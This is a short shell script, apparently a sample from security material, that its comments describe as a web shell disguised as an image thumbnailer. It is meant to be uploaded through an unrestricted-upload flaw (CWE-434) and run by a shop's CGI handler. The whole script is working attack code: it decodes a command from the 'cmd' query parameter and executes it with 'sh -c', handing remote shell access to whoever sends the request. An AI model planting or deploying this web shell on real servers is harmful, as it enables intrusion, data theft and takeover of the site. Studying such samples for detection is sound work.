#!/bin/sh
# A one-line web shell disguised as an image thumbnailer, uploaded by the attacker
# (unrestricted upload, CWE-434) and run by the shop's CGI handler: ?cmd=<urlencoded command>.
echo "Content-Type: text/plain"
echo
cmd=$(printf '%s' "$QUERY_STRING" | sed -e 's/^cmd=//' -e 's/+/ /g' -e 's/%\([0-9A-Fa-f][0-9A-Fa-f]\)/\\x\1/g')
cmd=$(printf '%b' "$cmd")
sh -c "$cmd" 2>&1
